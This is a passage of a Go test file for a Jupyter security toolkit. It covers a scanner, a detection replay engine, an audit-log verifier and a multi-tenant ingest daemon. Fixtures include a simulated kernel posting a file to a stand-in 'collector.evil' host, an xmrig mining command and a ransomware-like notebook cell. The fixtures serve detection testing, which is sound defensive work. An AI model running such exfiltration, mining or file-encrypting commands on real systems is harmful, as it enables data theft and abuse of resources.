// CLI smoke tests: build every command and exercise its primary flow
// against real files, so flag plumbing and output formats stay honest.
package repro_test

import (
	"bytes"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"repro/internal/audit"
	"repro/internal/evstore"
	"repro/internal/kernel"
	"repro/internal/trace"
	"repro/internal/vfs"
	"repro/internal/workload"
)

// buildTools compiles all commands once into a temp dir.
func buildTools(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	cmd := exec.Command("go", "build", "-o", dir+string(os.PathSeparator), "./cmd/...")
	cmd.Dir = "."
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("go build ./cmd/...: %v\n%s", err, out)
	}
	return dir
}

func runTool(t *testing.T, bin string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// syncBuf is a goroutine-safe buffer for capturing daemon output
// while the process is still running.
type syncBuf struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuf) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuf) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// startDaemon launches a long-running command, waits until its stdout
// announces the bound address ("... on http://ADDR ..."), and returns
// the address plus a stop func that SIGTERMs the process, waits for it
// to exit with wantExit, and returns the full combined output.
func startDaemon(t *testing.T, bin string, args ...string) (addr string, stop func(wantExit int) string) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	out := &syncBuf{}
	cmd.Stdout = out
	cmd.Stderr = out
	if err := cmd.Start(); err != nil {
		t.Fatalf("start %s: %v", filepath.Base(bin), err)
	}
	addrRE := regexp.MustCompile(`on http://([0-9.]+:[0-9]+)`)
	deadline := time.Now().Add(10 * time.Second)
	for {
		if m := addrRE.FindStringSubmatch(out.String()); m != nil {
			addr = m[1]
			break
		}
		if time.Now().After(deadline) {
			_ = cmd.Process.Kill()
			t.Fatalf("%s never announced an address:\n%s", filepath.Base(bin), out.String())
		}
		time.Sleep(10 * time.Millisecond)
	}
	stop = func(wantExit int) string {
		if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
			t.Fatalf("SIGTERM: %v", err)
		}
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		select {
		case <-done:
			if got := cmd.ProcessState.ExitCode(); got != wantExit {
				t.Fatalf("%s exited %d after SIGTERM, want %d:\n%s", filepath.Base(bin), got, wantExit, out.String())
			}
		case <-time.After(15 * time.Second):
			_ = cmd.Process.Kill()
			t.Fatalf("%s did not exit within 15s of SIGTERM:\n%s", filepath.Base(bin), out.String())
		}
		return out.String()
	}
	return addr, stop
}

func TestCLITools(t *testing.T) {
	if testing.Short() {
		t.Skip("builds binaries")
	}
	bin := buildTools(t)
	work := t.TempDir()

	t.Run("jtaxonomy", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jtaxonomy"), "-fig1", "-fig3")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		for _, want := range []string{"Taxonomy of Jupyter Notebook attacks", "OSCRP mapping", "ransomware"} {
			if !strings.Contains(out, want) {
				t.Errorf("output missing %q", want)
			}
		}
	})

	t.Run("jscan-presets", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jscan"), "--preset", "hardened", "--crypto")
		if err != nil {
			t.Fatalf("hardened preset should exit 0: %v\n%s", err, out)
		}
		if !strings.Contains(out, "hardening score 100/100") {
			t.Errorf("hardened output: %s", out)
		}
		out, err = runTool(t, filepath.Join(bin, "jscan"), "--preset", "sloppy")
		if err == nil {
			t.Fatal("sloppy preset should exit non-zero")
		}
		if !strings.Contains(out, "JPY-001") {
			t.Errorf("sloppy output missing findings: %s", out)
		}
	})

	t.Run("jscan-fleet", func(t *testing.T) {
		// Same seed must yield a byte-identical census regardless of
		// worker count, and a checkpointed sweep must resume.
		out1, err := runTool(t, filepath.Join(bin, "jscan"), "--fleet", "64", "--workers", "8", "--seed", "3")
		if err != nil {
			t.Fatalf("%v\n%s", err, out1)
		}
		out2, err := runTool(t, filepath.Join(bin, "jscan"), "--fleet", "64", "--workers", "2", "--seed", "3")
		if err != nil {
			t.Fatalf("%v\n%s", err, out2)
		}
		census := func(out string) string {
			// The sweep perf line (stderr) is wall-clock dependent;
			// the census itself must match exactly.
			var keep []string
			for _, line := range strings.Split(out, "\n") {
				if !strings.HasPrefix(line, "sweep:") {
					keep = append(keep, line)
				}
			}
			return strings.Join(keep, "\n")
		}
		if census(out1) != census(out2) {
			t.Fatalf("fleet census not deterministic:\n%s\nvs\n%s", out1, out2)
		}
		for _, want := range []string{"Fleet census: 64 targets, 64 scanned", "findings by check", "worst targets",
			"OSCRP incident summary", "incidents by risk"} {
			if !strings.Contains(out1, want) {
				t.Errorf("census missing %q:\n%s", want, out1)
			}
		}

		ckpt := filepath.Join(work, "sweep.ckpt")
		jsonl := filepath.Join(work, "sweep.jsonl")
		out3, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "16", "--workers", "4", "--seed", "3", "--resume", ckpt, "--jsonl", jsonl)
		if err != nil {
			t.Fatalf("%v\n%s", err, out3)
		}
		out4, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "16", "--workers", "4", "--seed", "3", "--resume", ckpt)
		if err != nil {
			t.Fatalf("%v\n%s", err, out4)
		}
		if !strings.Contains(out4, "(16 resumed)") {
			t.Errorf("second sweep did not resume from checkpoint:\n%s", out4)
		}
		data, err := os.ReadFile(jsonl)
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.Count(string(data), "\n"); lines != 16 {
			t.Errorf("jsonl stream has %d lines, want 16", lines)
		}
	})

	t.Run("jscan-suites", func(t *testing.T) {
		// A multi-suite deep sweep must stay byte-deterministic for a
		// fixed seed and suite set, including the per-suite histogram
		// and the pipeline alert tally, regardless of worker count.
		census := func(out string) string {
			var keep []string
			for _, line := range strings.Split(out, "\n") {
				if !strings.HasPrefix(line, "sweep:") {
					keep = append(keep, line)
				}
			}
			return strings.Join(keep, "\n")
		}
		args := []string{"--fleet", "12", "--seed", "7", "--suites", "misconfig,nbscan,crypto,intel"}
		out1, err := runTool(t, filepath.Join(bin, "jscan"), append([]string{"--workers", "8"}, args...)...)
		if err != nil {
			t.Fatalf("%v\n%s", err, out1)
		}
		out2, err := runTool(t, filepath.Join(bin, "jscan"), append([]string{"--workers", "2"}, args...)...)
		if err != nil {
			t.Fatalf("%v\n%s", err, out2)
		}
		if census(out1) != census(out2) {
			t.Fatalf("deep census not deterministic:\n%s\nvs\n%s", out1, out2)
		}
		for _, want := range []string{"findings by suite", "nbscan", "crypto", "intel",
			"alerts raised through the rules pipeline", "SC-001-critical-exposure",
			"OSCRP incident summary", "incidents by risk"} {
			if !strings.Contains(out1, want) {
				t.Errorf("deep census missing %q:\n%s", want, out1)
			}
		}

		// An unknown suite name is a usage error that fails fast,
		// before any fleet server is spawned.
		out3, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "4", "--suites", "misconfig,bogus")
		if err == nil {
			t.Fatalf("unknown suite accepted:\n%s", out3)
		}
		if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 2 {
			t.Errorf("unknown suite exit = %v, want usage error (2)", err)
		}
		for _, want := range []string{"unknown suite", "usage", "misconfig"} {
			if !strings.Contains(out3, want) {
				t.Errorf("unknown-suite error missing %q:\n%s", want, out3)
			}
		}
	})

	t.Run("jscan-events-replay", func(t *testing.T) {
		// The census's unified finding stream replays through
		// jsentinel, re-raising the same scan alerts offline.
		events := filepath.Join(work, "findings.jsonl")
		out, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", events)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		replay, err := runTool(t, filepath.Join(bin, "jsentinel"), "--replay", events)
		if err != nil {
			t.Fatalf("%v\n%s", err, replay)
		}
		for _, want := range []string{"scan_finding=", "SC-001-critical-exposure"} {
			if !strings.Contains(replay, want) {
				t.Errorf("replay missing %q:\n%s", want, replay)
			}
		}
	})

	t.Run("jscan-events-store-replay", func(t *testing.T) {
		// A census recorded into the segmented event store (the
		// default for non-.jsonl --events paths) replays through
		// jsentinel with segment-parallel workers and kind filters,
		// producing the same deterministic report as a serial replay.
		storeDir := filepath.Join(work, "census-store")
		out, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if fi, err := os.Stat(storeDir); err != nil || !fi.IsDir() {
			t.Fatalf("--events did not create a store directory: %v", err)
		}

		// A second census into the same store must refuse, not merge:
		// the stream would disagree with the census just printed.
		dup, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
		if err == nil {
			t.Fatalf("recording over a non-empty store accepted:\n%s", dup)
		}
		if !strings.Contains(dup, "already holds a recorded stream") {
			t.Errorf("refusal message missing:\n%s", dup)
		}

		// A checkpointed rerun replaces the recording instead of
		// refusing: a resumed sweep re-emits the complete stream, so
		// the store must hold exactly one census afterwards.
		res, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel",
			"--resume", filepath.Join(work, "census.ckpt"), "--events", storeDir)
		if err != nil {
			t.Fatalf("checkpointed rerun into existing store refused: %v\n%s", err, res)
		}

		replayArgs := func(extra ...string) []string {
			return append([]string{"--replay", storeDir, "--alerts=false"}, extra...)
		}
		// Census report must be identical between serial and sharded
		// filtered replay — incident lines included: since the core
		// sharding refactor, incident IDs are assigned canonically at
		// snapshot time (first-seen, actor, class), never from alert
		// arrival order, so only wall-clock timing lines are excluded.
		stable := func(out string) string {
			var keep []string
			for _, line := range strings.Split(out, "\n") {
				switch {
				case strings.HasPrefix(line, "store:"),
					strings.HasPrefix(line, "replayed "),
					strings.HasPrefix(line, "Detection report @"):
					continue
				}
				keep = append(keep, line)
			}
			return strings.Join(keep, "\n")
		}
		serial, err := runTool(t, filepath.Join(bin, "jsentinel"),
			replayArgs("--kinds", "scan_finding", "--workers", "1")...)
		if err != nil {
			t.Fatalf("%v\n%s", err, serial)
		}
		sharded, err := runTool(t, filepath.Join(bin, "jsentinel"),
			replayArgs("--kinds", "scan_finding", "--workers", "8")...)
		if err != nil {
			t.Fatalf("%v\n%s", err, sharded)
		}
		if stable(serial) != stable(sharded) {
			t.Fatalf("sharded store replay diverges from serial:\n%s\nvs\n%s", serial, sharded)
		}
		for _, want := range []string{"store:", "segments selected", "frames decoded",
			"skipped undecoded", " events", "tail-loss bytes", "scan_finding=", "security_misconfiguration"} {
			if !strings.Contains(sharded, want) {
				t.Errorf("store replay missing %q:\n%s", want, sharded)
			}
		}
		// A clean store replays with zero tail loss — the stats line is
		// where silent corruption would first surface.
		if !strings.Contains(sharded, "0 tail-loss bytes") {
			t.Errorf("clean store reported tail loss:\n%s", sharded)
		}
		if strings.Contains(stable(sharded), "auth=") {
			t.Errorf("kind filter leaked other kinds:\n%s", sharded)
		}

		// The store is also a valid jdataset input.
		shared := filepath.Join(work, "census-shared.jsonl")
		dout, err := runTool(t, filepath.Join(bin, "jdataset"), "--in", storeDir, "--out", shared)
		if err != nil {
			t.Fatalf("%v\n%s", err, dout)
		}
		if !strings.Contains(dout, "events anonymized") {
			t.Errorf("jdataset store input: %s", dout)
		}

		// An out-of-range time window selects nothing without error.
		empty, err := runTool(t, filepath.Join(bin, "jsentinel"),
			replayArgs("--until", "2000-01-01T00:00:00Z")...)
		if err != nil {
			t.Fatalf("%v\n%s", err, empty)
		}
		if !strings.Contains(empty, "replayed 0 events") {
			t.Errorf("time-filtered replay should match nothing:\n%s", empty)
		}
		// A malformed filter is a usage error, and so is a kind typo —
		// which would otherwise silently match nothing.
		bad, err := runTool(t, filepath.Join(bin, "jsentinel"), replayArgs("--since", "yesterday")...)
		if err == nil {
			t.Fatalf("bad --since accepted:\n%s", bad)
		}
		typo, err := runTool(t, filepath.Join(bin, "jsentinel"), replayArgs("--kinds", "scanfinding")...)
		if err == nil {
			t.Fatalf("kind typo accepted:\n%s", typo)
		}
		for _, want := range []string{"unknown kind", "scan_finding"} {
			if !strings.Contains(typo, want) {
				t.Errorf("kind-typo error missing %q:\n%s", want, typo)
			}
		}
	})

	t.Run("jsentinel-history-query", func(t *testing.T) {
		// extractTable pulls the "top N incidents by risk" block out of
		// any CLI output: the equality contract below compares these
		// blocks byte for byte.
		extractTable := func(out string) string {
			lines := strings.Split(out, "\n")
			for i, line := range lines {
				var n int
				if _, err := fmt.Sscanf(line, "top %d incidents by risk:", &n); err != nil {
					continue
				}
				end := i + 2 + n // header line + column header + n rows
				if end > len(lines) {
					t.Fatalf("truncated incident table:\n%s", out)
				}
				return strings.Join(lines[i:end], "\n")
			}
			t.Fatalf("no incident table in output:\n%s", out)
			return ""
		}

		// A census records a queryable history next to its event store
		// by default; `jsentinel query <store>` answers from it without
		// re-running detection.
		storeDir := filepath.Join(work, "hist-census")
		out, err := runTool(t, filepath.Join(bin, "jscan"),
			"--fleet", "8", "--seed", "7", "--suites", "misconfig,nbscan,intel", "--events", storeDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if !strings.Contains(out, "jscan: history recorded to") {
			t.Errorf("census did not report its history:\n%s", out)
		}
		if fi, err := os.Stat(filepath.Join(storeDir, "history")); err != nil || !fi.IsDir() {
			t.Fatalf("census store has no history/ subdirectory: %v", err)
		}
		qout, err := runTool(t, filepath.Join(bin, "jsentinel"), "query", "--topk", "50", storeDir)
		if err != nil {
			t.Fatalf("query over census history: %v\n%s", err, qout)
		}
		for _, want := range []string{"store stats:", "history stats:", "segments selected", "incidents match"} {
			if !strings.Contains(qout, want) {
				t.Errorf("query output missing %q:\n%s", want, qout)
			}
		}

		// The headline contract at the CLI level: the table a filtered
		// query renders equals the table a full replay renders —
		// byte-identical, not just same incidents.
		tr := workload.StandardMix(31, 400)
		tracePath := filepath.Join(work, "hist-trace.jsonl")
		f, err := os.Create(tracePath)
		if err != nil {
			t.Fatal(err)
		}
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		f.Close()
		histDir := filepath.Join(work, "replay-history")
		rout, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", tracePath, "--alerts=false", "--topk", "50", "--history", histDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, rout)
		}
		if !strings.Contains(rout, "jsentinel: history recorded to") {
			t.Errorf("replay did not report its history:\n%s", rout)
		}
		hq, err := runTool(t, filepath.Join(bin, "jsentinel"), "query", "--topk", "50", histDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, hq)
		}
		if got, want := extractTable(hq), extractTable(rout); got != want {
			t.Errorf("query table != replay table:\n%s\nvs\n%s", got, want)
		}

		// Filters narrow the table; --alerts lists matching records.
		aq, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"query", "--actor", "203.0.113.66", "--alerts", "--topk", "50", histDir)
		if err != nil {
			t.Fatalf("%v\n%s", err, aq)
		}
		if !strings.Contains(aq, "203.0.113.66") || strings.Contains(extractTable(aq), "mallory") {
			t.Errorf("actor filter not applied:\n%s", aq)
		}
		if !strings.Contains(aq, "alert records match") {
			t.Errorf("--alerts listing missing:\n%s", aq)
		}

		// Malformed filter values and unknown flags are usage errors
		// (exit 2) carrying an example of the wanted shape.
		for _, tc := range []struct {
			args []string
			want string
		}{
			{[]string{"query", "--severity", "bogus", histDir}, "e.g. --severity high"},
			{[]string{"query", "--risk", "bogus", histDir}, "e.g. --risk elevated"},
			{[]string{"query", "--since", "yesterday", histDir}, "RFC3339 time, e.g. 2026-06-01T09:00:00Z"},
			{[]string{"query", "--until", "noon", histDir}, "RFC3339 time, e.g. 2026-06-01T09:00:00Z"},
			{[]string{"query", "--frobnicate", histDir}, "flag provided but not defined"},
			{[]string{"query"}, "usage: jsentinel query"},
		} {
			bad, err := runTool(t, filepath.Join(bin, "jsentinel"), tc.args...)
			if err == nil {
				t.Fatalf("query %v accepted:\n%s", tc.args, bad)
			}
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 2 {
				t.Errorf("query %v: want exit 2, got %v", tc.args, err)
			}
			if !strings.Contains(bad, tc.want) {
				t.Errorf("query %v error missing %q:\n%s", tc.args, tc.want, bad)
			}
		}
	})

	t.Run("jupyterd-scan", func(t *testing.T) {
		out, err := runTool(t, filepath.Join(bin, "jupyterd"), "--sloppy", "--addr", "127.0.0.1:0", "--scan")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if !strings.Contains(out, "Authentication disabled") {
			t.Errorf("scan output: %s", out)
		}
	})

	t.Run("jsentinel-replay", func(t *testing.T) {
		// Generate a labelled trace, replay it, expect incidents.
		tr := workload.StandardMix(21, 200)
		tracePath := filepath.Join(work, "events.jsonl")
		f, err := os.Create(tracePath)
		if err != nil {
			t.Fatal(err)
		}
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		f.Close()

		out, err := runTool(t, filepath.Join(bin, "jsentinel"), "--replay", tracePath, "--alerts=false")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		for _, want := range []string{"replayed", "Detection report", "ransomware"} {
			if !strings.Contains(out, want) {
				t.Errorf("replay output missing %q:\n%s", want, out)
			}
		}

		// Sharded replay must see the same trace and still catch the
		// campaign: same event count, same attack classes in the report.
		pout, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", tracePath, "--alerts=false", "--workers", "4", "--batch", "64")
		if err != nil {
			t.Fatalf("parallel replay: %v\n%s", err, pout)
		}
		for _, want := range []string{"workers=4", "Detection report", "ransomware", "cryptomining"} {
			if !strings.Contains(pout, want) {
				t.Errorf("parallel replay output missing %q:\n%s", want, pout)
			}
		}

		// Filters apply to legacy JSONL streams too (streamed through
		// the decoder, never fully buffered).
		fout, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", tracePath, "--alerts=false", "--kinds", "auth")
		if err != nil {
			t.Fatalf("filtered replay: %v\n%s", err, fout)
		}
		if !strings.Contains(fout, "event mix: auth=") {
			t.Errorf("kind-filtered replay mix wrong:\n%s", fout)
		}
		if strings.Contains(fout, "exec=") {
			t.Errorf("kind filter leaked exec events:\n%s", fout)
		}
	})

	t.Run("jsentinel-replay-parity", func(t *testing.T) {
		// One trace recorded both ways replays to the same incidents at
		// any worker count: JSONL through the stage's actor lanes, the
		// store through evstore's segment-parallel replay.
		tr := workload.StandardMix(27, 600)
		jsonlPath := filepath.Join(work, "parity.jsonl")
		f, err := os.Create(jsonlPath)
		if err != nil {
			t.Fatal(err)
		}
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		f.Close()
		storeDir := filepath.Join(work, "parity-store")
		st, err := evstore.Open(storeDir, evstore.Options{SegmentBytes: 16 << 10})
		if err != nil {
			t.Fatal(err)
		}
		if err := st.AppendBatch(tr.Events); err != nil {
			t.Fatal(err)
		}
		if err := st.Close(); err != nil {
			t.Fatal(err)
		}

		// digest keeps what must not depend on the path or the worker
		// count: the event mix, the ALERT lines (sorted: they print in
		// arrival order) and everything from the incident table on.
		digest := func(out string) string {
			var mix string
			var alerts []string
			lines := strings.Split(out, "\n")
			for i, line := range lines {
				switch {
				case strings.HasPrefix(line, "event mix: "):
					mix = line
				case strings.HasPrefix(line, "ALERT "):
					alerts = append(alerts, line)
				case strings.HasPrefix(line, "top ") && strings.HasSuffix(line, "incidents by risk:"):
					sort.Strings(alerts)
					return strings.Join(append(append([]string{mix}, alerts...), lines[i:]...), "\n")
				}
			}
			t.Fatalf("no incident table in output:\n%s", out)
			return ""
		}
		var want, wantFrom string
		for _, path := range []string{jsonlPath, storeDir} {
			for _, workers := range []string{"1", "4", "8"} {
				out, err := runTool(t, filepath.Join(bin, "jsentinel"),
					"--replay", path, "--workers", workers, "--topk", "50")
				if err != nil {
					t.Fatalf("%v\n%s", err, out)
				}
				got, from := digest(out), filepath.Base(path)+" --workers "+workers
				if want == "" {
					want, wantFrom = got, from
					if !strings.Contains(got, "ALERT ") || !strings.Contains(got, "[INC-") {
						t.Fatalf("%s: no alerts or incidents to compare:\n%s", from, out)
					}
					continue
				}
				if got != want {
					t.Fatalf("%s diverges from %s:\n%s\nvs\n%s", from, wantFrom, got, want)
				}
			}
		}
	})

	t.Run("jdataset", func(t *testing.T) {
		tr := workload.StandardMix(22, 100)
		in := filepath.Join(work, "raw.jsonl")
		f, _ := os.Create(in)
		w := trace.NewJSONLWriter(f)
		for _, e := range tr.Events {
			w.Emit(e)
		}
		_ = w.Flush()
		f.Close()
		outPath := filepath.Join(work, "shared.jsonl")
		out, err := runTool(t, filepath.Join(bin, "jdataset"),
			"--in", in, "--out", outPath, "--deny", "alice", "--deny", "203.0.113.66")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		shared, err := os.ReadFile(outPath)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(shared), `"alice"`) || strings.Contains(string(shared), "203.0.113.66") {
			t.Fatal("identities leaked into shared dataset")
		}
	})

	t.Run("jaudit", func(t *testing.T) {
		// Produce a real audit log through an audited kernel.
		clock := trace.NewFakeClock(time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC))
		log := audit.NewLog(clock)
		tracer := audit.NewTracer(log)
		fs := vfs.New(vfs.WithClock(clock))
		_ = fs.Write("data/x.csv", "setup", []byte("a,b\n1,2\n"))
		mgr := kernel.NewManager(kernel.Config{
			FS: fs, Clock: clock,
			Gateway: kernel.GatewayFunc(func(m, u string, b []byte) (int, []byte, error) {
				return 200, nil, nil
			}),
			HostWrapper: tracer.WrapHost,
			ExecHook:    func(id, u, c string) { tracer.RecordExec(id, u, c) },
		})
		k := mgr.Start("", "mallory")
		if _, err := k.Execute(`w = read_file("data/x.csv")
http_post("http://collector.evil/drop", w)`, nil); err != nil {
			t.Fatal(err)
		}
		logPath := filepath.Join(work, "audit.jsonl")
		if err := os.WriteFile(logPath, audit.MarshalJSONL(log.Records()), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := runTool(t, filepath.Join(bin, "jaudit"),
			"--log", logPath, "--verify", "--exfiltrated")
		if err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		for _, want := range []string{"hash chain intact", "POSSIBLE EXFIL: data/x.csv"} {
			if !strings.Contains(out, want) {
				t.Errorf("jaudit output missing %q:\n%s", want, out)
			}
		}
		// Tamper with the log file: jaudit must refuse.
		tampered := strings.Replace(string(audit.MarshalJSONL(log.Records())),
			"data/x.csv", "innocent.txt", 1)
		_ = os.WriteFile(logPath, []byte(tampered), 0o644)
		out, err = runTool(t, filepath.Join(bin, "jaudit"), "--log", logPath, "--verify")
		if err == nil {
			t.Fatalf("tampered log accepted:\n%s", out)
		}
		if !strings.Contains(out, "CHAIN BROKEN") {
			t.Errorf("tamper output: %s", out)
		}
	})

	t.Run("jscan-notebook", func(t *testing.T) {
		trojan := filepath.Join(work, "trojan.ipynb")
		content := `{"cells": [{"id": "c1", "cell_type": "code", "metadata": {}, "outputs": [],
	     "source": "write_file(f, encrypt(read_file(f), \"k\"))"}],
	    "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`
		if err := os.WriteFile(trojan, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := runTool(t, filepath.Join(bin, "jscan"), "--notebook", trojan)
		if err == nil {
			t.Fatal("trojan notebook scan should exit non-zero")
		}
		if !strings.Contains(out, "ransomware") {
			t.Errorf("scan output: %s", out)
		}
	})

	t.Run("jupyterd-sigterm-flushes-store", func(t *testing.T) {
		// A SIGTERM mid-stream must drain and flush the event store:
		// with the default FlushEvery batching every event below the
		// threshold sits in the write buffer, so an unhandled signal
		// would lose all of them (Recovered non-empty or count short).
		storeDir := filepath.Join(work, "jupyterd-store")
		addr, stop := startDaemon(t, filepath.Join(bin, "jupyterd"),
			"--sloppy", "--addr", "127.0.0.1:0", "--log", storeDir)
		const requests = 9
		for i := 0; i < requests; i++ {
			resp, err := http.Get(fmt.Sprintf("http://%s/api/status?n=%d", addr, i))
			if err != nil {
				t.Fatalf("request %d: %v", i, err)
			}
			resp.Body.Close()
		}
		out := stop(0)
		if !strings.Contains(out, "shutting down") {
			t.Errorf("missing shutdown message:\n%s", out)
		}
		store, err := evstore.OpenRead(storeDir)
		if err != nil {
			t.Fatalf("open store after SIGTERM: %v", err)
		}
		if loss := store.Recovered(); len(loss) != 0 {
			t.Fatalf("tail loss after clean SIGTERM: %+v", loss)
		}
		if got := store.Events(); got < requests {
			t.Fatalf("store holds %d events, want >= %d (buffered events lost)", got, requests)
		}
	})

	t.Run("jingestd-live-vs-replay", func(t *testing.T) {
		// The ingest acceptance gate, end to end through the real
		// binaries: a recorded multi-tenant ingest session replayed
		// with jsentinel --replay must print a byte-identical
		// top-incidents table to the live run's shutdown report.
		storeDir := filepath.Join(work, "ingest-store")
		tenants := "acme=s3cret-a,globex=s3cret-g"
		mintTok := func(name string) string {
			out, err := runTool(t, filepath.Join(bin, "jingestd"),
				"--tenants", tenants, "--mint", name)
			if err != nil {
				t.Fatalf("mint %s: %v\n%s", name, err, out)
			}
			return strings.TrimSpace(out)
		}
		addr, stop := startDaemon(t, filepath.Join(bin, "jingestd"),
			"--addr", "127.0.0.1:0", "--tenants", tenants, "--store", storeDir, "--top", "5")

		// Each tenant sends a brute-force train (AT-001) and a miner
		// exec (CM-001) from "the same" source address — namespacing
		// must keep them distinct actors and incidents.
		var batch strings.Builder
		for i := 0; i < 10; i++ {
			fmt.Fprintf(&batch, `{"kind":"auth","time":"2026-08-08T12:00:%02dZ","src_ip":"203.0.113.5","op":"password","success":false}`+"\n", i)
		}
		batch.WriteString(`{"kind":"exec","time":"2026-08-08T12:01:00Z","kernel_id":"k-7","user":"miner","code":"os.system('xmrig -o stratum+tcp://pool')","success":true}` + "\n")
		for _, tenant := range []string{"acme", "globex"} {
			req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest",
				strings.NewReader(batch.String()))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Tenant", tenant)
			req.Header.Set("Authorization", "Bearer "+mintTok(tenant))
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatalf("%s: %v", tenant, err)
			}
			body := new(bytes.Buffer)
			_, _ = body.ReadFrom(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s: ingest status %d: %s", tenant, resp.StatusCode, body)
			}
		}
		live := stop(0)

		// incidentTable extracts the "top N incidents by risk" table:
		// header line through the last aligned row (jsentinel prints
		// [id] summaries after it; jingestd prints nothing).
		incidentTable := func(out string) string {
			lines := strings.Split(out, "\n")
			start := -1
			for i, l := range lines {
				if strings.HasPrefix(l, "top ") && strings.HasSuffix(l, "incidents by risk:") {
					start = i
					break
				}
			}
			if start == -1 {
				t.Fatalf("no incident table in output:\n%s", out)
			}
			end := start + 1
			for end < len(lines) && lines[end] != "" && !strings.HasPrefix(lines[end], "[") {
				end++
			}
			return strings.Join(lines[start:end], "\n")
		}
		liveTable := incidentTable(live)
		for _, want := range []string{"acme/203.0.113.5", "globex/203.0.113.5", "TENANT"} {
			if !strings.Contains(live, want) {
				t.Errorf("live shutdown report missing %q:\n%s", want, live)
			}
		}

		replay, err := runTool(t, filepath.Join(bin, "jsentinel"),
			"--replay", storeDir, "--alerts=false", "--workers", "8")
		if err != nil {
			t.Fatalf("replay: %v\n%s", err, replay)
		}
		if !strings.Contains(replay, "replayed 22 events") {
			t.Errorf("replay should see all 22 recorded events:\n%s", replay)
		}
		if got := incidentTable(replay); got != liveTable {
			t.Fatalf("replay incident table diverges from live run:\n--- live ---\n%s\n--- replay ---\n%s",
				liveTable, got)
		}
	})

	t.Run("jingestd-jsonl-store", func(t *testing.T) {
		// A .jsonl --store is a flat stream: it records events and keeps
		// no history, rather than making a history/ directory the
		// stream cannot then be created over.
		dir := t.TempDir()
		path := filepath.Join(dir, "x.jsonl")
		tenants := "acme=s"
		tok, err := runTool(t, filepath.Join(bin, "jingestd"), "--tenants", tenants, "--mint", "acme")
		if err != nil {
			t.Fatalf("mint: %v\n%s", err, tok)
		}
		addr, stop := startDaemon(t, filepath.Join(bin, "jingestd"),
			"--addr", "127.0.0.1:0", "--tenants", tenants, "--store", path)
		req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest",
			strings.NewReader(`{"kind":"auth","time":"2026-08-08T12:00:00Z","src_ip":"203.0.113.5","op":"password","success":false}`+"\n"))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("X-Tenant", "acme")
		req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(tok))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("ingest status %d", resp.StatusCode)
		}
		out := stop(0)

		f, err := os.Open(path)
		if err != nil {
			t.Fatalf("no JSONL recording: %v\n%s", err, out)
		}
		defer f.Close()
		if st, err := f.Stat(); err != nil || !st.Mode().IsRegular() {
			t.Fatalf("%s is not a regular file: %v", path, err)
		}
		n := 0
		for dec := trace.NewDecoder(f); ; n++ {
